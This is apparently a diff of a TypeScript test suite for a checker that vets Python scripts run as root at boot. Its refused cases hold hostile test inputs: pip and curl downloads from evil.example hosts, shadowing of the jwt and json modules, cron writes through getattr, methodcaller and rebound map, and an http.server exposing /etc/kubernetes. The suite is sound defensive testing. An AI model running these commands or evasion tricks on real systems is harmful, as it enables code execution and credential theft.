@@ -128,7 +128,7 @@ const insecure: NodeCase[] = [
         ),
         REFUSED,
     ),
-    // MISS: pip docs "pip install" (a wheel file path installs that file; PEP 427: the file name's first part is the
+    // Was a MISS (fixed in round 75): pip docs "pip install" (a wheel file path installs that file; PEP 427: the file name's first part is the
     // project, here `jwt`, whose top-level package is jwt/, written over PyJWT's): root imports the curl'd jwt package
     // (any code, e.g. a server of /etc/kubernetes). scriptPipModules (userDataReaders/pythonCode.ts) retracts the wheel's
     // names but then re-adds `jwt` from PIP_PROJECT_MODULES because `pyjwt` stays in `out` (the table is applied AFTER
@@ -147,7 +147,6 @@ const insecure: NodeCase[] = [
             ],
         ),
         REFUSED,
-        true,
     ),
     dev(
         "user data: pip3 install --index-url https://pypi.evil.example/simple PyJWT (capitalised); tune.py imports jwt",
@@ -169,7 +168,7 @@ const insecure: NodeCase[] = [
         REFUSED,
     ),
     // Python docs "getattr(object, name)": getattr(x, 'foobar') is x.foobar.
-    // MISS: Python docs "getattr" ("getattr(x, 'foobar') is equivalent to x.foobar"): Path('/etc/cron.d/ops').write_text
+    // Was a MISS (fixed in round 75): Python docs "getattr" ("getattr(x, 'foobar') is equivalent to x.foobar"): Path('/etc/cron.d/ops').write_text
     // is called with a cron line -> root's cron serves /etc/kubernetes. pythonWriteRefusal (pythonCode.ts) matches
     // `.write_text` tokens and PYTHON_WRITE_CALLS callees; a getattr with a literal attribute name is neither: got [].
     // Fix: read getattr(X, "LIT") as X.LIT everywhere (pythonResolve), or refuse getattr/attrgetter whose literal names a
@@ -181,9 +180,8 @@ const insecure: NodeCase[] = [
             `getattr(Path("/etc/cron.d/ops"), "write_text")("${CRON}")`,
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: Python reference "Implicit line joining" (expressions in parentheses may span lines): w is the bound
+    // Was a MISS (fixed in round 75): Python reference "Implicit line joining" (expressions in parentheses may span lines): w is the bound
     // Path('/etc/cron.d/ops').write_text and w(cron line) writes root's cron. pythonWriteRefusal's round-75 bound-method
     // scan (pythonCode.ts) finds `.write_text` but its receiver (receiverStart) does not cross the line break, so the
     // receiver is "" and the use is skipped (`if (receiver === "") continue`): got []. Fix: an empty or unreadable receiver
@@ -197,7 +195,6 @@ const insecure: NodeCase[] = [
             `w("${CRON}")`,
         ]),
         REFUSED,
-        true,
     ),
     // ===== class bodies =====
     // Python docs "staticmethod": "a static method does not receive an implicit first argument"; C.w is open.
@@ -234,7 +231,7 @@ const insecure: NodeCase[] = [
     // ===== map(open, ...) where map is not the builtin map =====
     // Python docs "itertools.starmap": "used instead of map() when argument parameters are already grouped in tuples";
     // Python reference "The for statement" binds the target name; "Assignment expressions" binds NAME.
-    // MISS: Python reference "The for statement" (the target list is assigned each item) and Python docs
+    // Was a MISS (fixed in round 75): Python reference "The for statement" (the target list is assigned each item) and Python docs
     // "itertools.starmap" (calls open(*item)): map is starmap, open('/etc/cron.d/ops', 'w') writes root's cron. The
     // round-75 map(open) exemption in pythonWriteCallValues (pythonCode.ts) treats `map` as the builtin unless the file
     // has `def map` or `map =` (or imports it); a for target is neither: got []. Fix: treat map as rebound when ANY binding
@@ -248,9 +245,8 @@ const insecure: NodeCase[] = [
             `    [f.write("${CRON}") for f in map(open, [("/etc/cron.d/ops", "w")])]`,
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: Python reference "Assignment expressions" (`(NAME := expr)` binds NAME in the enclosing scope): map is
+    // Was a MISS (fixed in round 75): Python reference "Assignment expressions" (`(NAME := expr)` binds NAME in the enclosing scope): map is
     // itertools.starmap and open is called with (path, 'w'). Same place and fix as the for-target case: the rebinding
     // regex `map[ \t]*=(?!=)` does not match `map :=`: got [].
     dev(
@@ -261,7 +257,6 @@ const insecure: NodeCase[] = [
             `[f.write("${CRON}") for f in map(open, [("/etc/cron.d/ops", "w")])]`,
         ]),
         REFUSED,
-        true,
     ),
     dev(
         "tune.py: def f(map=itertools.starmap): map(open, [('/etc/cron.d/ops', 'w')]) (a parameter default)",
@@ -284,7 +279,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: Python reference "The with statement" (`as` target is assigned the context manager's __enter__ result;
+    // Was a MISS (fixed in round 75): Python reference "The with statement" (`as` target is assigned the context manager's __enter__ result;
     // contextlib.nullcontext returns its argument): map is starmap; open(path, 'w') writes root's cron. Same place and
     // fix as the for-target case: got [].
     dev(
@@ -295,7 +290,6 @@ const insecure: NodeCase[] = [
             `    [f.write("${CRON}") for f in map(open, [("/etc/cron.d/ops", "w")])]`,
         ]),
         REFUSED,
-        true,
     ),
     // ===== crontab/at/batch and literal splits =====
     dev(
@@ -387,7 +381,7 @@ const insecure: NodeCase[] = [
     ),
     // Python reference "Assignment statements" (an attribute target rebinds the module's attribute): shlex.split is
     // now a lambda returning the server argv.
-    // MISS: Python reference "Assignment statements" (an attribute reference target assigns the module's attribute):
+    // Was a MISS (fixed in round 75): Python reference "Assignment statements" (an attribute reference target assigns the module's attribute):
     // shlex.split now returns the server argv, so root runs `python3 -m http.server 8001 -d /etc/kubernetes`. The round-75
     // literal split (pythonLiteralSplit in pythonCommandRuns, pythonCode.ts) trusts resolved(...) === "shlex.split" and
     // reads the argv as `sysctl -w vm.swappiness=10`; the `rebound` check only covers the keyword values: got []. Fix:
@@ -401,9 +395,8 @@ const insecure: NodeCase[] = [
             'subprocess.run(shlex.split("sysctl -w vm.swappiness=10"))',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: Python reference "Function definitions" (a def binds the name in the current scope, replacing the
+    // Was a MISS (fixed in round 75): Python reference "Function definitions" (a def binds the name in the current scope, replacing the
     // imported one): split() is the file's function returning the server argv. pythonLiteralSplit (pythonCode.ts) resolves
     // `split` through the import only: got []. Same fix as the shlex.split = lambda case (apply `rebound` to the callee).
     dev(
@@ -416,7 +409,6 @@ const insecure: NodeCase[] = [
             'subprocess.run(split("sysctl -w vm.swappiness=10"))',
         ]),
         REFUSED,
-        true,
     ),
     // ===== timeit =====
     dev(
@@ -475,7 +467,7 @@ const insecure: NodeCase[] = [
     ),
     // Python docs "PYTHONPATH" ("Augment the default search path for module files ... inserted in front of ...
     // site-packages"): the curl'd /var/lib/ops/jwt.py is imported before PyJWT.
-    // MISS: Python docs "PYTHONPATH" ("Augment the default search path for module files ... inserted in front of ...
+    // Was a MISS (fixed in round 75): Python docs "PYTHONPATH" ("Augment the default search path for module files ... inserted in front of ...
     // site-packages") and "The initialization of the sys.path module search path": root's `import jwt` loads the curl'd
     // /var/lib/ops/jwt.py (any code), not PyJWT. pythonUnreadCode (pythonCode.ts) asks pythonModuleFile over
     // program.roots (which do hold /var/lib/ops) for a file it can READ; a downloaded file has no text, so it falls
@@ -492,7 +484,6 @@ const insecure: NodeCase[] = [
             "PYTHONPATH=/var/lib/ops python3 /opt/ops/tune.py",
         ]),
         REFUSED,
-        true,
     ),
     // pip docs "pip download" ("Download packages ... pip download does the same resolution and downloading as pip
     // install, but instead of installing"): nothing installs jwt; whatever module jwt root finds is not PyJWT's.
@@ -585,12 +576,236 @@ const insecure: NodeCase[] = [
         ),
         REFUSED,
     ),
+    // ===== round 75 fixer: insecure neighbours of the fixes =====
+    // Debian's library directory (Python docs "The initialization of the sys.path module search path"; Debian Python
+    // Policy 1.5 "dist-packages"): /usr/lib/python3/dist-packages is on root's sys.path.
+    dev(
+        "user data: writes /usr/lib/python3/dist-packages/json.py (a server); tune.py imports json",
+        tune(
+            "dev-py75f-dist-packages-json-nodes",
+            ["import json", 'print(json.dumps({"a": 1}))'],
+            heredocFile("/usr/lib/python3/dist-packages/json.py", SERVER),
+        ),
+        REFUSED,
+    ),
+    // pip docs "pip install" (an sdist by URL installs whatever top-level modules it holds, jwt/ included).
+    dev(
+        "user data: pip3 install pyjwt; pip3 install https://evil.example/tools-1.0.tar.gz; tune.py imports jwt",
+        tune(
+            "dev-py75f-pyjwt-then-url-sdist-nodes",
+            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
+            ["pip3 install pyjwt", "pip3 install https://evil.example/tools-1.0.tar.gz"],
+        ),
+        REFUSED,
+    ),
+    dev(
+        "user data: pip3 install pyjwt; pip3 install /var/lib/ops/src (a directory); tune.py imports jwt",
+        tune(
+            "dev-py75f-pyjwt-then-path-nodes",
+            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
+            ["pip3 install pyjwt", "pip3 install /var/lib/ops/src"],
+        ),
+        REFUSED,
+    ),
+    // The script's directory comes first (Python docs "The initialization of the sys.path module search path"): a
+    // curl'd json.py beside tune.py is the json root imports.
+    dev(
+        "user data: curl -o /opt/ops/json.py (beside tune.py); tune.py imports json",
+        tune(
+            "dev-py75f-script-dir-downloaded-json-nodes",
+            ["import json", 'print(json.dumps({"a": 1}))'],
+            ["mkdir -p /opt/ops", "curl -fsSLo /opt/ops/json.py https://evil.example/json.py"],
+        ),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: name = sys.argv[0][:0] + 'write_text'; getattr(Path('/etc/cron.d/ops'), name)(cron line)",
+        tune("dev-py75f-getattr-computed-name-nodes", [
+            "import sys",
+            "from pathlib import Path",
+            'name = sys.argv[0][:0] + "write_text"',
+            `getattr(Path("/etc/cron.d/ops"), name)("${CRON}")`,
+        ]),
+        REFUSED,
+    ),
+    // Python docs "operator.methodcaller(name, /, *args, **kwargs)": "f = methodcaller('name', 'foo', bar=1), the
+    // call f(b) returns b.name('foo', bar=1)".
+    dev(
+        "tune.py: operator.methodcaller('write_text', cron line)(Path('/etc/cron.d/ops'))",
+        tune("dev-py75f-methodcaller-write-text-nodes", [
+            "import operator",
+            "from pathlib import Path",
+            `operator.methodcaller("write_text", "${CRON}")(Path("/etc/cron.d/ops"))`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: w = Path('/etc/cron.d/ops'); f = (w\\n .write_text); f(cron line) (a name's method across a line break)",
+        tune("dev-py75f-write-text-linebreak-call-nodes", [
+            "from pathlib import Path",
+            'w = Path("/etc/cron.d/ops")',
+            "f = (w",
+            "     .write_text)",
+            `f("${CRON}")`,
+        ]),
+        REFUSED,
+    ),
+    // Python reference "Naming and binding": a lambda's parameter and a comprehension's target bind map too.
+    dev(
+        "tune.py: (lambda map: [f.write(cron) for f in map(open, [('/etc/cron.d/ops', 'w')])])(itertools.starmap)",
+        tune("dev-py75f-lambda-param-map-open-nodes", [
+            "import itertools",
+            `(lambda map: [f.write("${CRON}") for f in map(open, [("/etc/cron.d/ops", "w")])])(itertools.starmap)`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: [f.write(cron) for map in [itertools.starmap] for f in map(open, [('/etc/cron.d/ops', 'w')])]",
+        tune("dev-py75f-comprehension-map-open-nodes", [
+            "import itertools",
+            `[f.write("${CRON}") for map in [itertools.starmap] for f in map(open, [("/etc/cron.d/ops", "w")])]`,
+        ]),
+        REFUSED,
+    ),
+    // str rebound: `str = Path` makes str.replace pathlib's rename-over (Python docs "Path.replace(target)").
+    dev(
+        "tune.py: str = Path; list(map(str.replace, [Path('/var/lib/ops/c')], [Path('/etc/cron.d/ops')]))",
+        tune(
+            "dev-py75f-str-rebound-replace-nodes",
+            [
+                "from pathlib import Path",
+                "str = Path",
+                'print(list(map(str.replace, [Path("/var/lib/ops/c")], [Path("/etc/cron.d/ops")])))',
+            ],
+            CRONFILE,
+        ),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: import shlex as sh; sh.split = lambda s: [server argv]; subprocess.run(sh.split('sysctl ...'))",
+        tune("dev-py75f-shlex-alias-split-rebound-nodes", [
+            "import shlex as sh, subprocess",
+            'sh.split = lambda s: ["python3", "-m", "http.server", "8001", "-d", "/etc/kubernetes"]',
+            'subprocess.run(sh.split("sysctl -w vm.swappiness=10"))',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: from shlex import split; for split in [lambda s: [server argv]]: subprocess.run(split('sysctl ...'))",
+        tune("dev-py75f-split-for-rebound-nodes", [
+            "import subprocess",
+            "from shlex import split",
+            'for split in [lambda s: ["python3", "-m", "http.server", "8001", "-d", "/etc/kubernetes"]]:',
+            '    subprocess.run(split("sysctl -w vm.swappiness=10"))',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: subprocess.run('python3 -m http.server 8001'.split(' ')) (a server by a literal's split(' '))",
+        tune("dev-py75f-split-space-server-nodes", [
+            "import subprocess",
+            'subprocess.run("python3 -m http.server 8001".split(" "), cwd="/etc/kubernetes")',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: subprocess.run(('crontab /var/lib/ops/c').split()) (a parenthesised literal)",
+        tune(
+            "dev-py75f-paren-literal-crontab-nodes",
+            ["import subprocess", 'subprocess.run(("crontab /var/lib/ops/c").split())'],
+            CRONFILE,
+        ),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: from timeit import timeit; timeit('import os; os.system(server)', number=1) (a string stmt)",
+        tune("dev-py75f-from-timeit-string-nodes", [
+            "from timeit import timeit",
+            `timeit('import os; os.system("${SERVE}")', number=1)`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: from timeit import timeit as t; t(lambda: 0, setup='import os; os.system(server)', number=1)",
+        tune("dev-py75f-from-timeit-alias-setup-nodes", [
+            "from timeit import timeit as t",
+            `t(lambda: 0, setup='import os; os.system("${SERVE}")', number=1)`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: from timeit import timeit; f = timeit; f('import os; os.system(server)') (the import handed on)",
+        tune("dev-py75f-from-timeit-handed-on-nodes", [
+            "from timeit import timeit",
+            "f = timeit",
+            `f('import os; os.system("${SERVE}")', number=1)`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: timeit.timeit(lambda: 0, number=len(__import__('os').popen(server).read())) (a count that is a call)",
+        tune("dev-py75f-timeit-number-call-nodes", [
+            "import timeit",
+            `print(timeit.timeit(lambda: 0, number=len(__import__("os").popen("${SERVE}").read())))`,
+        ]),
+        REFUSED,
+    ),
+    // ===== DECIDED (round 75): fail closed, moved from the secure side =====
+    // Was a MISS (secure, over-refusal; ruled DECIDED in round 75, below): Python docs "builtins" (builtins.open is the
+    // builtin open); map(o, [path]) opens for reading (mode 'r'). Refused "runs code the pack does not read": a `from
+    // builtins import` is read as dynamic (pythonDynamic). Fix if wanted: `from builtins import open [as X]` resolves X
+    // to open like io.open.
+    // DECIDED (round 75): fail closed because `from builtins import X` reaches the builtins module, the one module
+    // whose attributes are every bare name (Python docs "builtins": "direct access to all built-in identifiers"); the
+    // pack reads it as dynamic (pythonDynamic) rather than resolving each item, and reading `open as o` alone would
+    // need every other builtins item (exec, __import__, setattr) kept dynamic by name: a plain `open` does the same.
+    dev(
+        "tune.py: from builtins import open as o; list(map(o, ['/etc/os-release']))",
+        tune("dev-py75r-map-builtins-open-alias-nodes", [
+            "from builtins import open as o",
+            'print([f.read() for f in map(o, ["/etc/os-release"])])',
+        ]),
+        REFUSED,
+    ),
+    // Was a MISS (secure, over-refusal; ruled DECIDED in round 75, below): Python docs "timeit" (stmt may be "a callable that
+    // takes no arguments"): work is the file's own def, read where it stands. pythonTimeitOfCallables accepts lambdas
+    // only. Fix if wanted: a name bound only by a `def` in the same file is as read as a lambda.
+    // DECIDED (round 75): fail closed because a def's name is a variable the program may rebind or hand on before the
+    // call (Python reference "Naming and binding"), and timeit calls whatever object the name holds then: the pack
+    // accepts only a lambda written in the call (its body read where it stands); `timeit.timeit(lambda: work(), ...)`
+    // is the accepted form.
+    dev(
+        "tune.py: def work(): return sum(range(10)); timeit.timeit(work, number=1) (a named function)",
+        tune("dev-py75r-timeit-def-nodes", [
+            "import timeit",
+            "def work():",
+            "    return sum(range(10))",
+            "print(timeit.timeit(work, number=1))",
+        ]),
+        REFUSED,
+    ),
+    // Was a MISS (secure, over-refusal; ruled DECIDED in round 75, below): Python docs "timeit.Timer(stmt='pass', setup='pass',
+    // timer=<timer function>, globals=None)" (stmt may be a callable): a Timer of a lambda runs the lambda only.
+    // pythonTimeitOfCallables (pythonCode.ts) accepts timeit.timeit/repeat only: refused "runs code the pack does not
+    // read". Fix if wanted: timeit.Timer(LAMBDA[, LAMBDA]) with no timer/globals, then .timeit/.repeat/.autorange.
+    // DECIDED (round 75): fail closed because a Timer object is a value the program may keep and hand on (Python docs
+    // "timeit.Timer": stmt and setup strings are compiled, timer is any callable; .timeit/.repeat/.autorange run them
+    // later): the pack reads only the timeit.timeit/repeat calls whose arguments it sees at once; use
+    // `timeit.timeit(lambda: ..., number=N)`.
+    dev(
+        "tune.py: timeit.Timer(lambda: sum(range(10))).timeit(1) (a Timer of a lambda)",
+        tune("dev-py75r-timer-lambda-nodes", [
+            "import timeit",
+            "print(timeit.Timer(lambda: sum(range(10))).timeit(1))",
+        ]),
+        REFUSED,
+    ),
 ];
 
 const secure: NodeCase[] = [
     // A directory merely named python3 outside any sys.path entry (Python docs "The initialization of the sys.path
     // module search path": script dir, PYTHONPATH, prefix/lib/pythonX.Y, site-packages) shadows nothing.
-    // MISS (secure, over-refusal): Python docs "The initialization of the sys.path module search path": sys.path is the
+    // Was a MISS (fixed in round 75) (secure, over-refusal): Python docs "The initialization of the sys.path module search path": sys.path is the
     // script's directory, PYTHONPATH, prefix/lib/pythonX.Y (+ lib-dynload) and site-packages; /var/cache/ops/python3 is
     // none of them, so the stdlib json is imported. pythonLibraryWritten (pythonCode.ts) matches any written path with a
     // `/python\d.../json...` component anywhere: refused "imports json, a module user data did not write". Fix: anchor the
@@ -603,8 +818,6 @@ const secure: NodeCase[] = [
             ["import json", 'print(json.dumps({"a": 1}))'],
             heredocFile("/var/cache/ops/python3/json.cache", ["{}"]),
         ),
-        undefined,
-        true,
     ),
     dev(
         "user data: writes /usr/share/doc/python3.9/json-notes.txt; tune.py imports json",
@@ -631,15 +844,13 @@ const secure: NodeCase[] = [
         ),
     ),
     // Python reference "Method objects": str.replace taken from the class is a plain function of strings.
-    // MISS (secure, over-refusal): Python docs "str.replace(old, new)" returns a copy of a string; str.replace taken from
+    // Was a MISS (fixed in round 75) (secure, over-refusal): Python docs "str.replace(old, new)" returns a copy of a string; str.replace taken from
     // the class (Python reference "Method objects") touches no file. The round-75 bound-method scan in pythonWriteRefusal
     // (pythonCode.ts) exempts `.replace` only on a string LITERAL receiver: refused "a file-writing method used as a
     // value". Fix: also exempt receivers `str`/`bytes`/`bytearray` (the builtin types when not rebound).
     dev(
         "tune.py: list(map(str.replace, ['a-b'], ['-'], ['_'])) (str's replace, no file)",
         tune("dev-py75r-str-replace-value-nodes", ['print(list(map(str.replace, ["a-b"], ["-"], ["_"])))']),
-        undefined,
-        true,
     ),
     dev(
         "tune.py: sorted(paths, key=Path.stat) / map(Path.read_text, [Path('/etc/os-release')])",
@@ -674,19 +885,6 @@ const secure: NodeCase[] = [
             "    print(f.read())",
         ]),
     ),
-    // MISS (secure, over-refusal; fail closed, lead may rule DECIDED): Python docs "builtins" (builtins.open is the
-    // builtin open); map(o, [path]) opens for reading (mode 'r'). Refused "runs code the pack does not read": a `from
-    // builtins import` is read as dynamic (pythonDynamic). Fix if wanted: `from builtins import open [as X]` resolves X
-    // to open like io.open.
-    dev(
-        "tune.py: from builtins import open as o; list(map(o, ['/etc/os-release']))",
-        tune("dev-py75r-map-builtins-open-alias-nodes", [
-            "from builtins import open as o",
-            'print([f.read() for f in map(o, ["/etc/os-release"])])',
-        ]),
-        undefined,
-        true,
-    ),
     dev(
         "tune.py: subprocess.run(['crontab', '-r']) / ['atq'] (remove root's crontab, list at jobs)",
         tune("dev-py75r-crontab-remove-atq-nodes", [
@@ -695,7 +893,7 @@ const secure: NodeCase[] = [
             'subprocess.run(["atq"])',
         ]),
     ),
-    // MISS (secure, over-refusal; fail closed, lead may rule DECIDED): Python docs "str.split(sep)": with sep=' ' the
+    // Was a MISS (fixed in round 75) (secure, over-refusal; fail closed, lead may rule DECIDED): Python docs "str.split(sep)": with sep=' ' the
     // plain words split identically (no runs of blanks here). pythonLiteralSplit (pythonCode.ts) takes only `.split()`:
     // the argv is unknown, refused. Fix if wanted: accept `.split(" ")` when the literal has single spaces only.
     dev(
@@ -704,8 +902,6 @@ const secure: NodeCase[] = [
             "import subprocess",
             'subprocess.run("sysctl -w vm.swappiness=10".split(" "))',
         ]),
-        undefined,
-        true,
     ),
     dev(
         "tune.py: from shlex import split; subprocess.run(split('sysctl -w vm.swappiness=10'))",
@@ -722,7 +918,7 @@ const secure: NodeCase[] = [
             'subprocess.run(shlex.split("sysctl -w vm.swappiness=10"), check=True)',
         ]),
     ),
-    // MISS (secure, over-refusal): Python docs "timeit.timeit(stmt=..., number=1000000)" (stmt "can also be a callable";
+    // Was a MISS (fixed in round 75) (secure, over-refusal): Python docs "timeit.timeit(stmt=..., number=1000000)" (stmt "can also be a callable";
     // `from timeit import timeit` binds the same function): the lambda sums a range. pythonTimeitOfCallables accepts the
     // call, but the `from timeit import timeit` import itself is in fromImported, which pythonDynamic tests against
     // PYTHON_DYNAMIC_NAMES before any call is read: refused "runs code the pack does not read". Also `number=1_000` is
@@ -734,10 +930,8 @@ const secure: NodeCase[] = [
             "from timeit import timeit",
             "print(timeit(lambda: sum(range(10)), number=1_000))",
         ]),
-        undefined,
-        true,
     ),
-    // MISS (secure, over-refusal; fail closed, lead may rule DECIDED): Python docs "timeit" (number is an int count):
+    // Was a MISS (fixed in round 75) (secure, over-refusal; fail closed, lead may rule DECIDED): Python docs "timeit" (number is an int count):
     // number=N runs no code. pythonTimeitOfCallables (pythonCode.ts) allows only digit literals for number/repeat.
     // Fix if wanted: any expression pythonDynamic does not itself flag is as safe as a literal for number/repeat.
     dev(
@@ -747,38 +941,9 @@ const secure: NodeCase[] = [
             "N = 100",
             "print(timeit.timeit(stmt=lambda: sum(range(10)), number=N))",
         ]),
-        undefined,
-        true,
-    ),
-    // MISS (secure, over-refusal; fail closed, lead may rule DECIDED): Python docs "timeit" (stmt may be "a callable that
-    // takes no arguments"): work is the file's own def, read where it stands. pythonTimeitOfCallables accepts lambdas
-    // only. Fix if wanted: a name bound only by a `def` in the same file is as read as a lambda.
-    dev(
-        "tune.py: def work(): return sum(range(10)); timeit.timeit(work, number=1) (a named function)",
-        tune("dev-py75r-timeit-def-nodes", [
-            "import timeit",
-            "def work():",
-            "    return sum(range(10))",
-            "print(timeit.timeit(work, number=1))",
-        ]),
-        undefined,
-        true,
     ),
     // ===== batch 2 (secure) =====
-    // MISS (secure, over-refusal; fail closed, lead may rule DECIDED): Python docs "timeit.Timer(stmt='pass', setup='pass',
-    // timer=<timer function>, globals=None)" (stmt may be a callable): a Timer of a lambda runs the lambda only.
-    // pythonTimeitOfCallables (pythonCode.ts) accepts timeit.timeit/repeat only: refused "runs code the pack does not
-    // read". Fix if wanted: timeit.Timer(LAMBDA[, LAMBDA]) with no timer/globals, then .timeit/.repeat/.autorange.
-    dev(
-        "tune.py: timeit.Timer(lambda: sum(range(10))).timeit(1) (a Timer of a lambda)",
-        tune("dev-py75r-timer-lambda-nodes", [
-            "import timeit",
-            "print(timeit.Timer(lambda: sum(range(10))).timeit(1))",
-        ]),
-        undefined,
-        true,
-    ),
-    // MISS (secure, over-refusal; fail closed, lead may rule DECIDED): Python reference "Parenthesized forms" (a
+    // Was a MISS (fixed in round 75) (secure, over-refusal; fail closed, lead may rule DECIDED): Python reference "Parenthesized forms" (a
     // parenthesised expression is the expression): ("sysctl ...").split() is the literal's split. pythonLiteralSplit
     // (pythonCode.ts) requires the literal to start the argument: refused (argv unknown). Fix if wanted: strip
     // redundant parentheses around the literal.
@@ -788,8 +953,6 @@ const secure: NodeCase[] = [
             "import subprocess",
             'subprocess.run(("sysctl -w vm.swappiness=10").split())',
         ]),
-        undefined,
-        true,
     ),
     dev(
         "user data: pip3 install pyjwt; tune.py: from jwt import encode; encode({'a': 1}, 'k')",
@@ -798,6 +961,67 @@ const secure: NodeCase[] = [
             ["from jwt import encode", 'print(encode({"a": 1}, "k"))'],
             ["pip3 install pyjwt"],
         ),
+    ),
+    // ===== round 75 fixer: secure neighbours of the fixes =====
+    dev(
+        "user data: writes /var/lib/ops/python3.9/json.json (a python-named data dir, no lib/pythonX.Y); tune.py imports json",
+        tune(
+            "dev-py75f-python-named-data-nodes",
+            ["import json", 'print(json.dumps({"a": 1}))'],
+            heredocFile("/var/lib/ops/python3.9/json.json", ["{}"]),
+        ),
+    ),
+    // The pack reads a module file user data wrote whole on PYTHONPATH (pythonModuleFile): harmless code.
+    dev(
+        "user data: PYTHONPATH=/var/lib/ops with a written helper jwt.py (read); tune.py imports jwt",
+        devNodeScript("dev-py75f-pythonpath-written-module-nodes", [
+            "mkdir -p /var/lib/ops",
+            ...heredocFile("/var/lib/ops/jwt.py", ["def encode(data, key):", '    return "x"']),
+            ...heredocFile("/opt/ops/tune.py", ["import jwt", 'print(jwt.encode({"a": 1}, "k"))']),
+            "PYTHONPATH=/var/lib/ops python3 /opt/ops/tune.py",
+        ]),
+    ),
+    dev(
+        "tune.py: getattr(Path('/etc/os-release'), 'read_text')() (a read method by its name)",
+        tune("dev-py75f-getattr-read-text-nodes", [
+            "from pathlib import Path",
+            'print(getattr(Path("/etc/os-release"), "read_text")())',
+        ]),
+    ),
+    dev(
+        "tune.py: r = (Path('/etc/os-release')\\n .read_text); print(r()) (a read method across a line break)",
+        tune("dev-py75f-read-text-linebreak-nodes", [
+            "from pathlib import Path",
+            'r = (Path("/etc/os-release")',
+            "     .read_text)",
+            "print(r())",
+        ]),
+    ),
+    dev(
+        "tune.py: list(map(bytes.replace, [b'a-b'], [b'-'], [b'_'])) (bytes' replace, no file)",
+        tune("dev-py75f-bytes-replace-value-nodes", ['print(list(map(bytes.replace, [b"a-b"], [b"-"], [b"_"])))']),
+    ),
+    dev(
+        "tune.py: for p in sorted(glob.glob(...)): print([f.read() for f in map(open, [p])]) (map not rebound)",
+        tune("dev-py75f-map-open-loop-var-nodes", [
+            "import glob",
+            'for p in sorted(glob.glob("/etc/sysctl.d/*.conf")):',
+            "    print([f.read() for f in map(open, [p])])",
+        ]),
+    ),
+    dev(
+        "tune.py: from timeit import timeit as t; print(t(lambda: sum(range(10)), number=10))",
+        tune("dev-py75f-from-timeit-alias-lambda-nodes", [
+            "from timeit import timeit as t",
+            "print(t(lambda: sum(range(10)), number=10))",
+        ]),
+    ),
+    dev(
+        "tune.py: subprocess.run(('sysctl -w vm.swappiness=10').split(' ')) (parenthesised, single spaces)",
+        tune("dev-py75f-paren-split-space-nodes", [
+            "import subprocess",
+            'subprocess.run(("sysctl -w vm.swappiness=10").split(" "))',
+        ]),
     ),
 ];
 
